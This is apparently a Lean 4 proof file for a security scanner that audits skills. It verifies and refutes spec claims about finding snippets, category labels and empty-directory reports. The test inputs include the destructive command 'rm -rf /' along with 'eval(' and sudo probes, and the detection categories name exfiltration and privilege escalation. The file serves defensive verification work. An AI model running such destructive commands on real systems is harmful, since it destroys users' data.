def c8_line : List Char := "eval(".data ++ List.replicate 100 'a'

/-- C8 counterexample: the snippet of an over-long matched line is its
100-character prefix followed by the three ASCII dots `...`, not the
single ellipsis character `…` claimed by the spec. -/
theorem C8_ellipsis_refuted :
    (scan_content c8_line "a.sh" true).map (fun f => f.snippet)
      = [("eval(".data ++ List.replicate 95 'a') ++ ['.', '.', '.']] ∧
    ("eval(".data ++ List.replicate 95 'a') ++ ['.', '.', '.']
      ≠ ("eval(".data ++ List.replicate 95 'a') ++ ['…'] :=
  ⟨by decide, by decide⟩

/-- C8 amended: every finding's snippet is the matched line stripped of
surrounding whitespace, truncated to 100 characters, with the ASCII
string `...` appended exactly when the stripped line exceeds 100
characters. -/
theorem C8_snippet_truncation (content : List Char) (p : String) (s : Bool) :
    ∀ f ∈ scan_content content p s,
    ∃ l ∈ splitOnCh '\n' content,
      f.snippet = (stripWs l).take 100
        ++ (if 100 < (stripWs l).length then ['.', '.', '.'] else []) := by
  intro f hf
  obtain ⟨r, _, m, l, hl, rfl⟩ := mem_scanRules hf
  exact ⟨l, hl, rfl⟩

/-- The finding scanned from the single line `sudo x`. -/
def c8_probe : Finding :=
  { rule_id := "SUDO", rule_name := "sudo提权", severity := .HIGH, category := .PRIVILEGE,
    file_path := "w.sh", line_number := 1, snippet := "sudo x".data, weight := 60,
    hard_trigger := false }

/-- C8 witness: the snippet law instantiated on a short matched line. -/
theorem C8_snippet_truncation_witness :
    ∃ l ∈ splitOnCh '\n' "sudo x".data,
      c8_probe.snippet = (stripWs l).take 100
        ++ (if 100 < (stripWs l).length then ['.', '.', '.'] else []) :=
  C8_snippet_truncation "sudo x".data "w.sh" true c8_probe (by decide)

/-- C9 counterexample: the serialized category of a `RM_RF_ROOT` finding
is the Chinese enum value `破坏性操作`, which is none of the seven
English identifiers named by the spec. -/
theorem C9_category_values_refuted :
    ((scan_content "rm -rf /".data "x.sh" true).map (fun f => (serialize_finding f).category))
      = ["破坏性操作"] ∧
    ("破坏性操作" : String) ∉ ["destructive", "remote-execution", "command-injection",
      "network-exfil", "privilege-escalation", "persistence", "secret-exposure"] :=
  ⟨by decide, by decide⟩

/-- C9 amended: every serialized finding's category is drawn from the
closed seven-element set of Chinese `Category` enum values. -/
theorem C9_category_closed_set (f : Finding) :
    (serialize_finding f).category ∈
      ["破坏性操作", "远程执行", "命令注入", "网络外传", "权限提升", "敏感泄露", "持久化"] := by
  cases hc : f.category <;> simp [serialize_finding, Category.value, hc]

/-- C10 counterexample: on an existing root with no skills, the driver
exits before any report is produced, so no structured report (and in
particular no all-zero summary) is emitted. -/
theorem C10_no_report_refuted :
    ¬ ∃ rep : Report, (mainRun true [] "safe").2 = some rep := by
  rintro ⟨rep, h⟩
  simp [mainRun] at h

/-- C10 amended: an existing root with no skills makes the driver exit 0
without emitting a report; the summary generator itself, applied to an
empty result list, does return the all-zero summary the spec expects. -/
theorem C10_empty_tree :
    (∀ min_level : String, mainRun true [] min_level = (0, none)) ∧
    generate_summary [] = (⟨0, 0,
      [("safe", 0), ("low", 0), ("medium", 0), ("high", 0), ("dangerous", 0)]⟩ : Summary) :=
  ⟨fun _ => rfl, rfl⟩

end SkillAuditor
